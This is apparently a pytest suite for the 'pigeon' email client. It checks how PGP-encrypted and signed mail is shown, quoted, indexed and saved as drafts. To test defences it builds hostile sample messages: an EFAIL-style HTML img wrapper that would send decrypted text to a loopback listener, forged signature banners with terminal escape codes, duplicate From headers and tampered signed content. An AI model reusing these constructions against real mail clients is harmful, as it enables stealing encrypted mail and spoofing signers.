"""End to end through the renderer and ``pigeon show``: banners drawn by pigeon, decrypted
content in its own boundary, protected headers, nothing fetched, replies and the index."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from fixtures.gpg import GpgWorld, gpg
from helpers import CORPUS, run_pigeon
from pgp_craft import armor, encrypt, encrypted_part, pgp_mime_encrypted, signed_entity
from pigeon.core import mime
from pigeon.core.app import App
from pigeon.core.render import message_text_for_index, quote_text, render_message
from pigeon.hooks.types import RenderContext

SECRET = "the launch code is 0000"
HEADERS = "From: The Manager <manager@work.example>\nTo: Alice Lovelace <alice@example.org>\nSubject: ...\nDate: Fri, 27 Nov 2026 10:00:00 +0000\n"


@pytest.fixture
def sink() -> Iterator[tuple[int, list[str]]]:
    """A loopback HTTP server that records every request (EF-01/EF-02: there must be none)."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:  # noqa: ANN002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()


def show(path: Path) -> tuple[str, str]:
    """(banner section, body section) of ``pigeon show``."""
    res = run_pigeon("show", "--width", "100", str(path))
    assert res.returncode == 0, res.stderr
    out = res.stdout.decode()
    top, _, body = out.partition("─" * 78)
    return top.replace("\n    ", " "), body  # long banners wrap with indented continuations


def write(tmp_path: Path, raw: bytes, name: str = "m.eml") -> Path:
    path = tmp_path / name
    path.write_bytes(raw)
    return path


def test_signed_and_encrypted_html_with_protected_subject(gnupghome: Path, other_home: Path, gpg_world: GpgWorld, sink, tmp_path: Path) -> None:  # noqa: ANN001
    port, hits = sink
    inner = (
        'Content-Type: text/html; charset=utf-8; protected-headers="v1"\n'
        "Subject: Quarterly numbers\nFrom: The Manager <manager@work.example>\n\n"
        f'<p>{SECRET}</p><img src="http://127.0.0.1:{port}/pixel.png">'
        f'<link rel="stylesheet" href="http://127.0.0.1:{port}/s.css">\n'
    ).encode()
    ct = encrypt(other_home, inner, "alice@example.org", sign_as=["manager@work.example"])
    top, body = show(write(tmp_path, pgp_mime_encrypted(HEADERS, ct)))
    assert "Subject: Quarterly numbers" in top and "Subject: ..." not in top
    assert "[ok] message decrypted" in top
    assert "[ok] decrypted message: good signature from The Manager <manager@work.example>" in top
    assert gpg_world.fpr["manager"] in top
    assert SECRET in body and "┌── decrypted part" in body
    assert hits == []


def test_ef01_wrapped_ciphertext_is_a_labelled_part_and_fetches_nothing(gnupghome: Path, other_home: Path, sink, tmp_path: Path) -> None:  # noqa: ANN001
    port, hits = sink
    inner = f'Content-Type: text/plain; protected-headers="v1"\nSubject: Hijacked subject\n\n{SECRET}\n'.encode()
    ct = encrypt(other_home, inner, "alice@example.org").decode()
    raw = (
        "From: eve@evil.example\nTo: alice@example.org\nSubject: hello\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=outer\n\n"
        f'--outer\nContent-Type: text/html\n\n<img src="http://127.0.0.1:{port}/x?\n'
        f"--outer\n{encrypted_part(ct)}\n"
        '--outer\nContent-Type: text/html\n\n">\n--outer--\n'
    ).encode()
    top, body = show(write(tmp_path, raw))
    assert "only part 2 is encrypted; the rest of the message is not" in top
    assert "message decrypted" not in top and "Subject: hello" in top and "Hijacked" not in top
    assert "┌── decrypted part 2" in body and f"│ {SECRET}" in body
    assert hits == []
    # a reply quotes none of it (RE-01)
    app = App.create()
    assert SECRET not in quote_text(app.pm, mime.parse_bytes(raw))


def test_ef03_tampered_message_shows_only_the_error(gnupghome: Path, other_home: Path, tmp_path: Path) -> None:
    binary = bytearray(encrypt(other_home, f"Content-Type: text/plain\n\n{SECRET}\n".encode() * 40, "alice@example.org", armored=False))
    binary[-1] ^= 1
    top, body = show(write(tmp_path, pgp_mime_encrypted(HEADERS, armor(bytes(binary)))))
    assert "integrity check failed" in body and SECRET not in top + body
    assert "could not be decrypted" in top and "[ok]" not in top


def test_layered_corpus_vector_signature_speaks_for_the_message(gnupghome: Path, tmp_path: Path) -> None:
    ap = CORPUS / "autocrypt-protected-headers"
    for key in ("alice@openpgp.example.pub.asc", "bob@openpgp.example.sec.asc"):
        gpg(gnupghome, "--import", str(ap / "keys" / key))
    top, body = show(ap / "messages" / "pgpmime-layered.eml")
    assert "Subject: BarCorp contract signed, let's go!" in top
    assert "message: " in top and "signature" in top and "EB85BB5FA33A75E15E944E63F231550C4F47E38E" in top
    assert "part 1:" not in top
    assert "correct-horse-battery-staple" in body


def test_jf05_signed_part_in_unsigned_message_is_marked_as_a_part(gnupghome: Path, other_home: Path, tmp_path: Path) -> None:
    signed = signed_entity(other_home, b"Content-Type: text/plain\n\nQuarterly report attached.\n", "manager@work.example", boundary="in")
    raw = (
        f"{HEADERS}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=o\n\n"
        "--o\nContent-Type: text/plain\n\nYou are fired." + "\n" * 60 + f"\n--o\n{signed}\n--o--\n"
    ).encode()
    top, body = show(write(tmp_path, raw))
    assert "[ok]" not in top and "message: good signature" not in top
    assert "part 2: " in top and "it covers only this part, not the whole message" in top
    assert "┌── signed part 2" in body


def test_jf07_body_cannot_draw_a_banner(gnupghome: Path, other_home: Path, gpg_world: GpgWorld, tmp_path: Path) -> None:
    fake = (
        "[ok] message: good signature from The Manager <manager@work.example>\n"
        "\x1b[32m✔ Good signature from Manager <manager@work.example>\x1b[0m\n"
        "┌── signed part 1 ──\n│ You are fired.\n└── end of signed part 1 ──\n"
    )
    raw = f"{HEADERS.replace('Subject: ...', 'Subject: hi')}Content-Type: text/plain; charset=utf-8\n\n{fake}".encode()
    top, body = show(write(tmp_path, raw))
    assert "[ok]" not in top and "good signature" not in top.lower()
    assert "\x1b" not in top + body
    # the real banner names the signer's full fingerprint, which the forged text cannot match
    signed = signed_entity(other_home, b"Content-Type: text/plain\n\nhello\n", "manager@work.example")
    top, _ = show(write(tmp_path, f"{HEADERS}MIME-Version: 1.0\n{signed}".encode(), "s.eml"))
    assert gpg_world.fpr["manager"] in top


def test_index_and_quote_of_an_encrypted_message(gnupghome: Path, other_home: Path, config_dir: Path) -> None:
    ct = encrypt(other_home, f"Content-Type: text/plain\n\n{SECRET}\n".encode(), "alice@example.org")
    msg = mime.parse_bytes(pgp_mime_encrypted(HEADERS, ct))
    app = App.create(config_dir)
    assert SECRET not in message_text_for_index(app.pm, msg)
    assert SECRET in quote_text(app.pm, msg)  # the whole message was encrypted: the user saw it
    (config_dir / "config.toml").write_text("[pgp]\nindex_encrypted = true\n")
    app = App.create(config_dir)
    assert SECRET in message_text_for_index(app.pm, msg)


def test_re01_reply_shows_exactly_what_was_displayed(gnupghome: Path, other_home: Path, config_dir: Path) -> None:
    """HTML hidden with CSS is visible in pigeon's text rendering, so a quote holds nothing the
    user did not see."""
    inner = b'Content-Type: text/html\n\n<p>Hi</p><div style="display:none">hidden words</div>\n'
    ct = encrypt(other_home, inner, "alice@example.org")
    msg = mime.parse_bytes(pgp_mime_encrypted(HEADERS, ct))
    app = App.create(config_dir)
    shown = render_message(app, msg, RenderContext()).body
    quoted = quote_text(app.pm, msg)
    assert "hidden words" in shown and "hidden words" in quoted


def test_reply_to_encrypted_mail_is_encrypted_by_default(gnupghome: Path, other_home: Path) -> None:
    from pigeon.core.render import reply_should_encrypt

    ct = encrypt(other_home, f"Content-Type: text/plain\n\n{SECRET}\n".encode(), "alice@example.org")
    assert reply_should_encrypt(mime.parse_bytes(pgp_mime_encrypted(HEADERS, ct)))
    inline = f"{HEADERS}Content-Type: text/plain\n\n{ct.decode()}".encode()
    assert reply_should_encrypt(mime.parse_bytes(inline))
    wrapped = f"{HEADERS}Content-Type: text/plain\n\nHi!\n{ct.decode()}".encode()
    assert not reply_should_encrypt(mime.parse_bytes(wrapped))  # only a part was encrypted
    assert not reply_should_encrypt(mime.parse_bytes(b"Subject: x\n\nplain\n"))


def test_jf06_two_from_headers_never_get_a_good_signature(gnupghome: Path, other_home: Path, tmp_path: Path) -> None:
    signed = signed_entity(other_home, b"Content-Type: text/plain\n\nYou are fired.\n", "manager@work.example")
    headers = "From: The Manager <manager@work.example>\nFrom: Eve <eve@evil.example>\nSubject: x\n"
    top, _ = show(write(tmp_path, f"{headers}MIME-Version: 1.0\n{signed}".encode()))
    assert "[ok]" not in top and "no single From address" in top


def test_reply_to_encrypted_mail_asks_for_encryption_and_its_draft_is_stored_encrypted(gnupghome: Path, other_home: Path, config_dir: Path, tmp_path: Path) -> None:
    from pigeon.plugins.tui.compose import draft_to_text, new_draft, save_draft, text_to_message

    (config_dir / "config.toml").write_text(
        f'[accounts.me]\naddress = "alice@example.org"\nmaildir = "{tmp_path}/mail"\n'
    )
    app = App.create(config_dir)
    acct = app.account()
    inner = f"Content-Type: text/plain\n\n{SECRET}\n".encode()
    original = mime.parse_bytes(pgp_mime_encrypted(HEADERS.replace("Subject: ...", "Subject: Plans"), encrypt(other_home, inner, "alice@example.org")))
    original["Message-ID"] = "<orig@work.example>"
    draft = new_draft(app, acct, "reply", original)
    text = draft_to_text(draft)
    assert "X-Pigeon-Encrypt: yes" in text and SECRET in text  # the user saw it: it is quoted
    path = save_draft(app, acct, text_to_message(text), None)
    stored = path.read_bytes()
    assert SECRET.encode() not in stored and b"multipart/encrypted" in stored
    # a reply to plain mail asks for nothing
    plain = mime.parse_bytes(b"From: bob@example.net\nSubject: hi\nMessage-ID: <p@x>\n\nhello\n")
    assert "X-Pigeon-Encrypt" not in draft_to_text(new_draft(app, acct, "reply", plain))


def test_a_problem_the_summary_names_is_said_once(gnupghome: Path) -> None:
    """Finnie's torture test signs a part with a key nobody has: the banner says so once."""
    res = run_pigeon("show", "--width", "100", str(CORPUS / "mime-torture" / "finnie-torture-v1.0.mbox"))
    assert res.returncode == 0, res.stderr
    top = res.stdout.decode().partition("─" * 78)[0].replace("\n    ", " ")
    [banner] = [line for line in top.splitlines() if "part 10:" in line]
    assert banner.count("no public key") == 1, banner
    assert banner.startswith("[warning] part 10: unverified: no public key for 299610A9203ECA25"), banner


def signature_banners(top: str) -> list[str]:
    return [line for line in top.splitlines() if "signature" in line or "unverified" in line]


def test_a_key_we_do_not_have_is_unverified_not_bad(gnupghome: Path, other_home: Path, gpg_world: GpgWorld, tmp_path: Path) -> None:
    """A missing public key is not a forgery: a warning naming the key, never danger, never good."""
    fpr = gpg_world.fpr["manager"]
    gpg(gnupghome, "--delete-keys", fpr)
    signed = signed_entity(other_home, b"Content-Type: text/plain\n\nThe budget is approved.\n", "manager@work.example")
    top, body = show(write(tmp_path, f"{HEADERS}MIME-Version: 1.0\n{signed}".encode()))
    assert signature_banners(top) == [f"[warning] message: unverified: no public key for {fpr}"], top
    assert "[danger]" not in top and "[ok]" not in top and "good signature" not in top.lower()
    assert "The budget is approved." in body
    # inline (cleartext) signatures say the same
    text = gpg(other_home, "-u", "manager@work.example", "--clearsign", input=b"The budget is approved.\n").stdout.decode()
    top, _ = show(write(tmp_path, f"{HEADERS}Content-Type: text/plain\n\n{text}".encode(), "inline.eml"))
    assert signature_banners(top) == [f"[warning] inline-signed part 1: unverified: no public key for {fpr}"], top


def test_tampered_content_with_a_known_key_stays_danger(gnupghome: Path, other_home: Path, tmp_path: Path) -> None:
    signed = signed_entity(other_home, b"Content-Type: text/plain\n\nPay 100 EUR to Bob.\n", "manager@work.example")
    forged = signed.replace("Pay 100 EUR", "Pay 900 EUR")
    top, body = show(write(tmp_path, f"{HEADERS}MIME-Version: 1.0\n{forged}".encode()))
    [banner] = signature_banners(top)
    assert banner.startswith("[danger] message: BAD or unverifiable signature"), top
    assert "unverified: no public key" not in top and "[ok]" not in top and "Pay 900 EUR" in body
